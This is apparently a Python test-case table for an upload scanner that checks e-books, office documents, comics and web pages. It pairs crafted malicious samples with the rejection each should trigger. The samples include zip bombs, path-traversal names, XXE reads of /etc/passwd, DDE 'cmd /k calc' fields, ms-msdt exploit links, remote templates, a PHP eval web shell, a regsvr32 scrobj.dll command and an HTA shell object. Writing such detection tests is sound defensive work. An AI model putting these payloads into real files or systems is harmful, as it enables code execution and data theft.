    "ZIP with 5,001 parts": _epub(lambda: epub({f"OEBPS/{n}.css": "" for n in range(5_001)}), "bomb", "parts"),
    "ZIP with 20,000 parts": _epub(lambda: epub({f"OEBPS/{n}.css": "" for n in range(20_000)}), "bomb", "parts"),
    "ZIP with a wrong size": _epub(_false_size, "malformed", "damaged"),
    "ZIP whose parts overlap": _epub(_overlapping, "bomb", "overlap"),
    "ZIP with a password": _epub(lambda: _with_flag(1), "encrypted", "password"),
    "ZIP with a link": _epub(_symlink, "bad_container", "a link"),
    "ZIP compressed with bzip2": _epub(lambda: _with_method(zipfile.ZIP_BZIP2), "bad_container", "unusual"),
    "ZIP compressed with LZMA": _epub(lambda: _with_method(zipfile.ZIP_LZMA), "bad_container", "unusual"),
    "ZIP with path traversal": _epub(lambda: epub({"../../etc/cron.d/x": "x"}), "bad_container", "leads out"),
    "ZIP with an absolute name": _epub(lambda: epub({"/etc/passwd": "x"}), "bad_container"),
    "ZIP with a backslash": _epub(lambda: epub({"OEBPS\\x.css": "x"}), "bad_container"),
    "ZIP with a drive letter": _epub(lambda: epub({"C:x.css": "x"}), "bad_container"),
    "ZIP with a NUL in a name": _epub(
        lambda: _replace_all(epub({"OEBPS/xAy.css": "x"}), b"xAy.css", b"x\0y.css"), "bad_container"
    ),
    "ZIP with the same name twice": _epub(
        lambda: _replace_all(epub({"OEBPS/two.xhtml": "x"}), b"two.xhtml", b"ONE.xhtml"), "bad_container", "same name"
    ),
    "ZIP with two names for one part": _epub(
        lambda: _replace_one(epub(), b"one.xhtml", b"own.xhtml"), "bad_container", "two names"
    ),
    "ZIP with bytes behind it": _epub(lambda: epub() + b"more", "foreign_content", "follow the end"),
    "ZIP with bytes before its directory": _epub(
        lambda: (lambda whole, at: whole[:at] + bytes(99) + whole[at:])(epub(), epub().index(b"PK\1\2")),
        "foreign_content",
    ),
    "ZIP cut off": _epub(lambda: epub()[:-30], "malformed"),
    "ZIP with a damaged part": _epub(
        lambda: (lambda whole: whole[:400] + b"\xff\xff\xff" + whole[403:])(epub()), "malformed", "damaged"
    ),
    "DOCX with macros": _docx(lambda: docx({"word/vbaProject.bin": MACROS}), "active_content", "macros"),
    "DOCX with the content type of macros": _docx(
        lambda: docx(
            {"[Content_Types].xml": media_files.content_types("application/vnd.ms-word.document.macroEnabled.main+xml")}
        ),
        "active_content",
        "macros",
    ),
    "DOCX with macros under another name": _docx(
        lambda: docx({"word/media/image1.dat": MACROS}), "pattern:macro_project", "macros"
    ),
    "DOCX with macros in an old container": _docx(
        lambda: docx({"word/media/image1.dat": OLE}), "foreign_content", "old Office"
    ),
    "DOCX with Excel macros": _docx(
        lambda: docx({"custom/sheet.xml": "<xm:macrosheet xmlns:xm='x'/>"}), "pattern:old_macro_sheet"
    ),
    "DOCX with ActiveX": _docx(lambda: docx({"word/activeX/activeX1.xml": "<a/>"}), "active_content", "ActiveX"),
    "DOCX with an embedded object": _docx(
        lambda: docx({"word/embeddings/oleObject1.bin": b"x"}), "active_content", "embedded"
    ),
    "DOCX with a ZIP that is named like a picture": _docx(
        lambda: docx({"word/media/image1.emz": ZIP}), "foreign_content", "an archive"
    ),
    "DOCX with a gzip of something else": _docx(
        lambda: docx({"word/media/image1.emz": zlib.compress(PROGRAM, wbits=31)}), "foreign_content", "an archive"
    ),
    "DOCX with a packed picture and more": _docx(
        lambda: docx({"word/media/image1.wmz": zlib.compress(METAFILE, wbits=31) + ZIP}),
        "foreign_content",
        "an archive",
    ),
    "DOCX with a program in it": _docx(lambda: docx({"word/media/setup.exe": b"x"}), "active_content", "programs"),
    "DOCX with changes to the ribbon": _docx(
        lambda: docx({"customUI/customUI.xml": "<a/>"}), "active_content", "buttons"
    ),
    "DOCX with a packaged file": _docx(
        lambda: docx({"word/media/a.bin": b"x" * 30 + "Ole10Native".encode("utf-16-le")}), "pattern:packaged_object"
    ),
    "DOCX with the old equation editor": _docx(
        lambda: docx({"word/media/a.bin": b"x" * 30 + bytes.fromhex("02ce020000000000c000000000000046")}),
        "pattern:equation_exploit",
    ),
    "DOCX with RTF in it": _docx(
        lambda: docx({"word/a.rtf": rb"{\rtf1{\object\objupdate{\*\objdata 0105}}}"}), "pattern:rtf_object"
    ),
    "DOCX with DDE": _docx(lambda: _document(media_files.field(' DDEAUTO cmd "/k calc" ')), "active_content", "DDE"),
    "DOCX with DDE in several runs": _docx(
        lambda: _document(media_files.field(" DD", "EAU", "TO cmd ")), "active_content", "DDE"
    ),
    "DOCX with DDE in one attribute": _docx(
        lambda: _document('<w:fldSimple w:instr=" DDE cmd x "><w:r/></w:fldSimple>'), "active_content", "DDE"
    ),
    "DOCX with DDE in a header": _docx(
        lambda: docx({"word/header1.xml": word(media_files.field("dde cmd"))}), "active_content", "DDE"
    ),
    "DOCX with a field that fetches a picture": _docx(
        lambda: _document(media_files.field(' INCLUDEPICTURE "https://example.org/a.png" ')), "active_content", "fetch"
    ),
    "DOCX with a remote template": _docx(
        lambda: docx(
            {
                "word/_rels/settings.xml.rels": media_files.relations(
                    ("attachedTemplate", "https://example.org/x.dotm", True)
                )
            }
        ),
        "active_content",
        "elsewhere",
    ),
    "DOCX with a remote object": _docx(lambda: _related("oleObject"), "active_content"),
    "DOCX with a remote object of a known exploit": _docx(
        lambda: _related("oleObject", "mhtml:https://example.org!x"), "pattern:remote_protocol"
    ),
    "DOCX with a frame": _docx(lambda: _related("frame"), "active_content"),
    "DOCX with a remote sub-document": _docx(lambda: _related("subDocument"), "active_content"),
    "DOCX with an unknown remote relationship": _docx(lambda: _related("whatever"), "active_content"),
    "DOCX with an embedded HTML page": _docx(lambda: _related("aFChunk", "a.html", outside=False), "active_content"),
    "DOCX with a link that starts a program": _docx(
        lambda: _related("hyperlink", "ms-msdt:/id PCWDiagnostic"), "pattern:remote_protocol"
    ),
    "DOCX with expanding entities": _docx(
        lambda: docx({"word/document.xml": LAUGHS + word("<w:p/>")}), "bomb", "entities"
    ),
    "DOCX that is a workbook": _docx(
        lambda: docx({"[Content_Types].xml": media_files.content_types("application/vnd.ms-excel")}), "type_mismatch"
    ),
    "DOCX without its document": _docx(lambda: docx({"word/document.xml": None}), "type_mismatch", "none in it"),
    "DOCX with a password": _docx(lambda: OLE, "type_mismatch", "encrypted new one"),
    "JAR named as DOCX": _docx(lambda: packed({"META-INF/MANIFEST.MF": "x"}), "type_mismatch", "Java archive"),
    "EPUB named as DOCX": _docx(epub, "type_mismatch", "an EPUB book"),
    # ---- comic books ----
    "ZIP named as CBZ": _cbz(lambda: ZIP, "malformed", "no pictures"),
    "RAR named as CBZ": _cbz(lambda: RAR, "type_mismatch", "pack its pages as a ZIP"),
    "EPUB named as CBZ": _cbz(epub, "type_mismatch", "an EPUB book"),
    "CBZ with damaged pages alone": _cbz(
        lambda: packed({"1.jpg": comic_page()[:700], "2.png": b"words"}), "malformed", "“1.jpg”, “2.png”"
    ),
    "CBZ with a page of 4 gigapixels": _cbz(lambda: cbz({"1.png": _png_of(65_500, 65_500)}), "too_many_pixels"),
    "CBZ with a page of 5,001 frames": _cbz(lambda: cbz({"1.gif": _gif_of_frames(5_001)}), "bomb", "frames"),
    "CBZ with a page whose comment unpacks to 300 MB": _cbz(
        lambda: cbz({"1.png": media_files.png_with((b"zTXt", b"Comment\0\0" + _zeros(300 * MB)))}), "bomb", "metadata"
    ),
    "CBZ with PHP in a page": _cbz(
        lambda: cbz({"1.jpg": media_files.jpeg_with_comment(PHP)}), "pattern:php_in_media", "PHP"
    ),
    "CBZ with a program behind a page": _cbz(lambda: cbz({"1.jpg": comic_page() + PROGRAM}), "pattern:windows_program"),
    "CBZ with EICAR in a page": _cbz(
        lambda: cbz({"1.jpg": media_files.jpeg_with_comment(sample_files.EICAR)}), "pattern:eicar"
    ),
    "CBZ with a program": _cbz(lambda: cbz({"run.exe": PROGRAM}), "active_content", "not pictures"),
    "CBZ with an archive": _cbz(lambda: cbz({"more.cbz": cbz()}), "active_content", "not pictures"),
    "CBZ with 5,001 parts": _cbz(lambda: cbz({f"{n}.txt": "" for n in range(5_001)}), "bomb", "parts"),
    "CBZ with 210 MB in all parts": _cbz(
        lambda: packed([*cbz_parts().items(), *((f"{n}.jpg", bytes(60 * MB)) for n in range(4))]), "bomb"
    ),
    "CBZ with path traversal": _cbz(lambda: cbz({"../1.jpg": comic_page()}), "bad_container", "leads out"),
    "CBZ cut off": _cbz(lambda: cbz()[:-30], "malformed"),
    # ---- OpenDocument ----
    "ZIP named as ODT": _odt(lambda: ZIP, "type_mismatch", "another type"),
    "ODS named as ODT": _odt(
        lambda: odt({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), "type_mismatch", "another type"
    ),
    "ODT without text": _odt(
        lambda: odt({"content.xml": odt_content("").replace("office:text", "office:chart")}), "type_mismatch", "no text"
    ),
    "ODT without its content": _odt(lambda: odt({"content.xml": None}), "malformed", "content.xml"),
    "ODT with a password": _odt(
        lambda: odt({"META-INF/manifest.xml": odf_manifest("content.xml", inside="<m:encryption-data/>")}),
        "encrypted",
        "password",
    ),
    "ODT with expanding entities": _odt(
        lambda: odt({"content.xml": LAUGHS + odt_content("")[38:]}), "bomb", "entities"
    ),
    "ODT with an entity of a file": _odt(
        lambda: odt({"meta.xml": '<!DOCTYPE m [<!ENTITY a SYSTEM "file:///etc/passwd">]><m>&a;</m>'}),
        "bomb",
        "entities",
    ),
    "ODT with 300 nested elements": _odt_with("<text:section>" * 300 + "</text:section>" * 300, "bomb", "nests"),
    "ODT with a part of 300 MB": _odt(lambda: odt({"content.xml": bytes(300 * MB)}), "bomb", "times its size"),
    "ODT with Basic macros": _odt(
        lambda: odt({"Basic/Standard/Module1.xml": "<m/>", "Basic/script-lc.xml": "<l/>"}), "active_content", "macros"
    ),
    "ODT with a Python macro": _odt(lambda: odt({"Scripts/python/a.py": "import os"}), "active_content", "macros"),
    "ODT with macros inside an object": _odt(
        lambda: odt({"Object 1/Basic/Standard/Module1.xml": "<m/>"}), "active_content", "macros"
    ),
    "ODT with a script": _odt_with(
        "",
        "active_content",
        "macros",
        '<office:scripts><office:script script:language="JavaScript">x()</office:script></office:scripts>',
    ),
    "ODT with an event listener": _odt_with(
        "",
        "active_content",
        "macros",
        '<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic"/></office:event-listeners></office:scripts>',
    ),
    "ODT with a script field": _odt_with("<text:p><text:script>x()</text:script></text:p>", "active_content", "macros"),
    "ODT with a link to a macro": _odt_with(
        '<text:p><text:a xlink:href="macro:///Standard.M.Main">a</text:a></text:p>', "active_content", "macros"
    ),
    "ODT with a link to a command": _odt_with(
        '<text:p><text:a xlink:href=".uno:Quit">a</text:a></text:p>', "active_content", "macros"
    ),
    "ODT with a javascript link": _odt_with(
        '<text:p><text:a xlink:href="javascript:x()">a</text:a></text:p>', "active_content", "scripts"
    ),
    "ODT with a link to a program": _odt_with(
        '<text:p><text:a xlink:href="file:///C:/a.exe">a</text:a></text:p>', "active_content", "other files"
    ),
    "ODT with a link that starts a known exploit": _odt_with(
        '<text:p><text:a xlink:href="ms-msdt:/id PCWDiagnostic">a</text:a></text:p>', "pattern:remote_protocol"
    ),
    "ODT with DDE": _odt_with(
        '<text:p><text:dde-connection text:connection-name="a">42</text:dde-connection></text:p>',
        "active_content",
        "DDE",
    ),
    "ODT with a section from elsewhere": _odt_with(
        '<text:section><text:section-source xlink:href="https://example.org/a.odt"/></text:section>',
        "active_content",
        "elsewhere",
    ),
    "ODT with a picture on another computer": _odt_with(
        '<text:p><draw:image xlink:href="file://host/share/a.png"/></text:p>', "active_content", "elsewhere"
    ),
    "ODT with a template on another computer": _odt(
        lambda: odt(
            {
                "meta.xml": f'<office:document-meta {ODF_NAMESPACES}><meta:template xlink:href="smb://host/a.ott"/></office:document-meta>'
            }
        ),
        "active_content",
        "elsewhere",
    ),
    "ODT with an object from elsewhere": _odt_with(
        '<text:p><draw:object xlink:href="https://example.org/a.ods"/></text:p>', "active_content", "elsewhere"
    ),
    "ODT with an object of another program": _odt(lambda: odt({"Object 1": OLE}), "active_content", "embedded"),
    "ODT with an old Office document": _odt(lambda: odt({"Pictures/a.bin": OLE}), "foreign_content", "old Office"),
    "ODT with an archive": _odt(lambda: odt({"Pictures/a.bin": ZIP}), "foreign_content", "an archive"),
    "ODT with a program": _odt(lambda: odt({"Pictures/a.exe": b"x"}), "active_content", "programs"),
    "ODT with earlier versions": _odt(lambda: odt({"Versions/Version1": odt()}), "active_content", "attached"),
    "ODT with a film": _odt_with('<text:p><draw:plugin xlink:href="Media/a.mp4"/></text:p>', "active_content", "video"),
    "ODT with an applet": _odt_with("<text:p><draw:applet/></text:p>", "active_content", "programs"),
    "ODT with a frame": _odt_with(
        '<text:p><draw:floating-frame xlink:href="https://example.org"/></text:p>', "active_content", "frames"
    ),
    "ODT with a form that sends": _odt_with(
        '<office:forms><form:form xlink:href="https://example.org"/></office:forms>', "active_content", "form fields"
    ),
    "ODT with own buttons": _odt(lambda: odt({"Configurations2/toolbar/a.xml": "<t/>"}), "active_content", "buttons"),
    "ODT with a script in a picture": _odt(
        lambda: odt({"Pictures/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'}),
        "active_content",
        "scripts",
    ),
    "ODT with EICAR": _odt(lambda: odt({"Pictures/a.png": NOISE + sample_files.EICAR}), "pattern:eicar"),
    # ---- RTF ----
    "text named as RTF": Case(RTF, "a.rtf", lambda: b"Just words.", "type_mismatch", "plain text"),
    "RTF cut off": Case(RTF, "a.rtf", lambda: rtf()[:-9], "malformed", "its end is missing"),
    "RTF with 300 nested groups": _rtf("{" * 300 + "}" * 300, "bomb", "nests"),
    "RTF of 3,100,000 parts": _rtf(r"\par" * 3_100_000, "bomb", "parts"),
    "RTF with binary data beyond its end": _rtf(r"{\pict\bin99999 x}", "malformed", "end is missing"),
    "RTF with binary data of a negative length": _rtf(r"{\pict\bin-9 x}", "malformed", "end is missing"),
    "RTF with an object": _rtf(
        r"{\object\objemb{\*\objclass Word.Document.8}{\*\objdata 0105000002}{\result{\pard a picture}}}",
        "active_content",
        "embedded objects",
    ),
    "RTF with a linked object that updates itself": _rtf(
        r"{\object\objautlink\objupdate{\*\objdata 0105}}", "active_content", "embedded objects"
    ),
    "RTF with an object whose words are in capitals": _rtf(r"{\OBJECT{\*\ObjData 0105}}", "active_content", "objects"),
    "RTF with the data of an object alone": _rtf(r"{\*\unknown{\objdata 0105}}", "active_content", "objects"),
    "RTF with an object in binary data": _rtf(r"{\pict\bin22 {\object{\objdata 01}}}", "active_content", "objects"),
    "RTF with a control": _rtf(r"{\object\objocx{\*\objdata 0105}}", "active_content", "ActiveX"),
    "RTF with a template on a server": _rtf(
        "", "active_content", "elsewhere", r"{\*\template https://example.org/a.dotm}"
    ),
    "RTF with a template on another computer": _rtf(
        "", "active_content", "elsewhere", r"{\*\template \\\\host\\a.dotm}"
    ),
    "RTF with a template written as numbers": _rtf(
        "", "active_content", "elsewhere", r"{\*\template \u104\'3f t\u116 ?p\'3a\'2f\'2fexample.org}"
    ),
    "RTF with DDE": _rtf(r"{\field{\*\fldinst DDEAUTO cmd " "/k calc" "}{\fldrslt 42}}", "active_content", "DDE"),
    "RTF with DDE in several groups": _rtf(
        r"{\field{\*\fldinst {\b D}{D}{E}{AUTO cmd}}{\fldrslt 42}}", "active_content", "DDE"
    ),
    "RTF with DDE inside of a field": _rtf(
        r"{\field{\*\fldinst QUOTE {\field{\*\fldinst DDEAUTO cmd}{\fldrslt x}}}{\fldrslt 42}}", "active_content", "DDE"
    ),
    "RTF with a field that fetches a picture": _rtf(
        r'{\field{\*\fldinst INCLUDEPICTURE "https://example.org/a.png"}{\fldrslt }}', "active_content", "fetch"
    ),
    "RTF with a script address": _rtf(
        r'{\field{\*\fldinst HYPERLINK "javascript:x()"}{\fldrslt a}}', "active_content", "scripts"
    ),
    "RTF with a link to a program": _rtf(
        r'{\field{\*\fldinst HYPERLINK "file:///C:/a.exe"}{\fldrslt a}}', "active_content", "other files"
    ),
    "RTF with letters from a database": _rtf(
        "", "active_content", "elsewhere", r"{\*\mailmerge{\*\mmdatasource file.mdb}}"
    ),
    "RTF with macros in a form": _rtf(r"{\*\formfield{\*\ffentrymcr Main}}", "active_content", "macros"),
    "RTF with a program behind it": Case(RTF, "a.rtf", lambda: rtf() + PROGRAM, "pattern:windows_program"),
    "RTF with other bytes behind it": Case(RTF, "a.rtf", lambda: rtf() + b"more words", "active_content", "behind"),
    "RTF with a ZIP behind it": Case(RTF, "a.rtf", lambda: rtf() + ZIP, "type_mismatch", "a ZIP archive at its end"),
    "RTF with a program as its picture": _rtf(rf"{{\pict\pngblip {PROGRAM.hex()}}}", "pattern:windows_program"),
    "RTF with PHP in a picture": _rtf(
        rf"{{\pict\jpegblip {media_files.jpeg_with_comment(PHP).hex()}}}", "pattern:php_in_media"
    ),
    "RTF with EICAR": Case(RTF, "a.rtf", lambda: rtf() + sample_files.EICAR, "pattern:eicar"),
    # ---- Kindle books ----
    "MOBI with copy protection": _mobi(lambda: kindle_files.mobi(protection=2), "encrypted", "Kindle DRM"),
    "text named as MOBI": _mobi(lambda: b"Just words." * 20, "type_mismatch"),
    "Topaz book named as MOBI": _mobi(lambda: b"TPZ0" + bytes(99), "type_mismatch", "Topaz"),
    "KFX with copy protection named as MOBI": _mobi(
        lambda: b"\xeaDRMION\xee" + bytes(99), "type_mismatch", "copy protection"
    ),
    "MOBI cut off": _mobi(lambda: kindle_files.mobi()[:90], "malformed", "damaged"),
    "MOBI without its header": _mobi(lambda: kindle_files.database([bytes(300)]), "malformed", "header"),
    "MOBI whose records overlap": _mobi(
        lambda: kindle_files.mobi()[:86] + b"\0\0\0\1" + kindle_files.mobi()[90:], "malformed", "overlap"
    ),
    "MOBI without text": _mobi(lambda: kindle_files.mobi(""), "malformed", "no text"),
    "MOBI with a missing record": _mobi(
        lambda: kindle_files.database([kindle_files.header(text_bytes=9, text_records=9), b"words"]),
        "malformed",
        "missing",
    ),
    "MOBI packed in an unknown way": _mobi(
        lambda: kindle_files.database([kindle_files.header(text_bytes=9, text_records=1, compression=7), b"words"]),
        "malformed",
        "unknown way",
    ),
    "MOBI that refers to before its text": _mobi(
        lambda: kindle_files.database(
            [kindle_files.header(text_bytes=9, text_records=1, compression=kindle_files.PALMDOC), b"a\x80\x40"]
        ),
        "malformed",
        "unpacked",
    ),
    "MOBI that unpacks to 17 MB": _mobi(
        lambda: kindle_files.database(
            [
                kindle_files.header(text_bytes=1, text_records=300, compression=kindle_files.PALMDOC),
                *[b"a" + b"\x80\x0f" * 6_000] * 300,
            ]
        ),
        "bomb",
        "16 MB",
    ),
    "MOBI with phrases in themselves": _mobi(
        lambda: kindle_files.database(
            [
                kindle_files.header(text_bytes=9, text_records=1, compression=kindle_files.HUFFMAN, huffman=(2, 2)),
                b"\xff",
                *kindle_files.huffman_records([(b"\xff\xff", False)] * 256),
            ]
        ),
        "bomb",
        "phrases",
    ),
    "AZW3 with an index without entries": _mobi(
        lambda: kindle_files.database(
            [kindle_files.header(text_bytes=5, text_records=1, version=8, skeletons=2), b"words", b"INDX" + bytes(60)]
        ),
        "malformed",
        "index",
    ),
    "MOBI with a PDF in it": _mobi(lambda: kindle_files.mobi("%MOP"), "type_not_allowed", "Print Replica"),
    "MOBI with a script": _mobi(lambda: kindle_files.mobi("<p>a</p><script>x()</script>"), "active_content", "scripts"),
    "AZW3 with a handler": _mobi(
        lambda: kindle_files.azw3([("<html><body>", "</body></html>", ('<p onclick="x()">a</p>',))]),
        "active_content",
        "scripts",
    ),
    "MOBI with a frame": _mobi(lambda: kindle_files.mobi('<p>a</p><iframe src="a.html">'), "active_content", "frames"),
    "MOBI with the files that it was made from": _mobi(
        lambda: kindle_files.mobi(more=[b"SRCS" + bytes(12) + ZIP + bytes(9)]), "active_content", "attached"
    ),
    "MOBI with EICAR": _mobi(lambda: kindle_files.mobi(sample_files.EICAR.decode()), "pattern:eicar"),
    "MOBI with PHP in a picture": _mobi(
        lambda: kindle_files.mobi(pictures=[media_files.jpeg_with_comment(PHP)]), "pattern:php_in_media"
    ),
    "MOBI with 600 nested elements": _mobi(lambda: kindle_files.mobi("<div>" * 600 + "a"), "bomb", "nests"),
    # ---- FictionBooks ----
    "text named as FB2": _fb2(lambda: b"Just words.", "malformed", "not XML"),
    "SVG named as FB2": _fb2(lambda: b"<svg xmlns='x'><body/></svg>", "type_mismatch", "“svg”"),
    "PNG named as FB2": _fb2(lambda: saved(drawn(), "PNG"), "type_mismatch", "a PNG picture"),
    "FB2 without text": _fb2(lambda: fb2(""), "type_mismatch", "no text"),
    "FB2 of 65 MB": _fb2(lambda: fb2() + bytes(65 * MB), "too_large", "64 MB"),
    "FB2 with expanding entities": _fb2(lambda: LAUGHS.replace("x", "FictionBook").encode() + fb2()[39:], "bomb"),
    "FB2 with an entity of a file": _fb2(
        lambda: (
            b'<!DOCTYPE FictionBook [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + fb2("<body><p>&a;</p></body>")[39:]
        ),
        "bomb",
        "entities",
    ),
    "FB2 with 300 nested elements": _fb2(
        lambda: fb2("<body>" + "<section>" * 300 + "</section>" * 300 + "</body>"), "bomb", "nests"
    ),
    "FB2 with a script": _fb2(
        lambda: fb2(more='<script xmlns="http://www.w3.org/1999/xhtml">x()</script>'), "active_content", "scripts"
    ),
    "FB2 with an SVG": _fb2(
        lambda: fb2('<body><s:svg xmlns:s="http://www.w3.org/2000/svg" onload="x()"/></body>'),
        "active_content",
        "frames",
    ),
    "FB2 with a script address": _fb2(
        lambda: fb2('<body><p><a l:href=" JAVA&#9;SCRIPT:x()">a</a></p></body>'), "active_content", "scripts"
    ),
    "FB2 with a link to a file": _fb2(
        lambda: fb2('<body><p><a l:href="file:///C:/a.exe">a</a></p></body>'), "active_content", "other files"
    ),
    "FB2 with a style sheet": _fb2(
        lambda: fb2().replace(b"<FictionBook", b'<?xml-stylesheet href="https://example.org/a.xsl"?><FictionBook', 1),
        "active_content",
        "fetched",
    ),
    "FB2 with an attached program": _fb2(
        lambda: fb2(more=fb2_binary(b"words", "a.txt", "text/plain")), "active_content", "attached"
    ),
    "FB2 with a program as its picture": _fb2(
        lambda: fb2(more=fb2_binary(PROGRAM, "a.png")), "pattern:windows_program"
    ),
    "FB2 with PHP in a picture": _fb2(
        lambda: fb2(more=fb2_binary(media_files.jpeg_with_comment(PHP), "a.jpg")), "pattern:php_in_media"
    ),
    "FB2 with EICAR in a picture": _fb2(
        lambda: fb2(more=fb2_binary(media_files.jpeg_with_comment(sample_files.EICAR))), "pattern:eicar"
    ),
    "packed FB2 without a book": _fb2_zip(lambda: ZIP, "malformed", "0 books"),
    "packed FB2 with two books": _fb2_zip(lambda: packed({"a.fb2": fb2(), "b.fb2": fb2()}), "malformed", "2 books"),
    "packed FB2 with a part of 65 MB": _fb2_zip(lambda: packed({"a.fb2": fb2() + bytes(65 * MB)}), "bomb"),
    "packed FB2 with a script": _fb2_zip(
        lambda: fb2_zip(fb2(more='<script xmlns="http://www.w3.org/1999/xhtml">x()</script>')), "active_content"
    ),
    # ---- pages ----
    "text named as HTML": Case("text/html", "a.html", lambda: b"Just words.", "type_mismatch", "does not begin as one"),
    "PHP named as HTML": Case("text/html", "a.html", lambda: PHP + PAGE, "type_mismatch", "PHP"),
    "SVG named as HTML": Case("text/html", "a.html", lambda: b"<svg xmlns='x'><body></svg>", "type_mismatch", "SVG"),
    "HTML in an encoding that bypasses filters": Case(
        "text/html", "a.html", lambda: b"<html><meta charset=utf-7>+ADw-script+AD4-", "malformed", "encoding"
    ),
    "HTML that does not fit its byte order mark": Case(
        "text/html", "a.html", lambda: b"\xef\xbb\xbf<html>f\xfcr", "malformed", "not valid"
    ),
    "HTML with binary data": Case("text/html", "a.html", lambda: PAGE + b"\0\1\2", "type_mismatch", "binary"),
    "HTML with 513 nested elements": Case("text/html", "a.html", lambda: PAGE + b"<div>" * 513, "bomb", "512 elements"),
    "HTML with 100,000 nested lists": Case(
        "text/html", "a.html", lambda: PAGE + b"<ul><li>" * 100_000, "bomb", "512 elements"
    ),
    "HTML of 21 MB": Case("text/html", "a.html", lambda: PAGE + b"x" * 21 * MB, "too_large", "20 MB"),
    "HTML that is a Windows application (HTA)": Case(
        "text/html",
        "a.html",
        lambda: PAGE + b"<hta:application><script>new ActiveXObject('WScript.Shell')</script>",
        "pattern:html_application",
    ),
    "text with a web shell": Case(
        "text/plain",
        "a.txt",
        lambda: b"words\n x <?php error_reporting(0); set_time_limit(0); @eval($_POST['x']); ?>",
        "pattern:web_shell",
    ),
    "text with the test string of spam filters": Case(
        "text/plain",
        "a.txt",
        lambda: b"XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-" + b"STANDARD-ANTI-UBE-TEST-EMAIL*C.34X",
        "pattern:spam_test",
    ),
    "picture with a script component": _jpeg(
        lambda: media_files.jpeg_with_comment(b"regsvr32 /s /n /u /i:x scrobj.dll"), "pattern:windows_script"
    ),
    "macOS program in a picture": _jpeg(
        lambda: saved(drawn(), "JPEG") + b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0" + bytes(99),
        "pattern:macos_program",
    ),
}
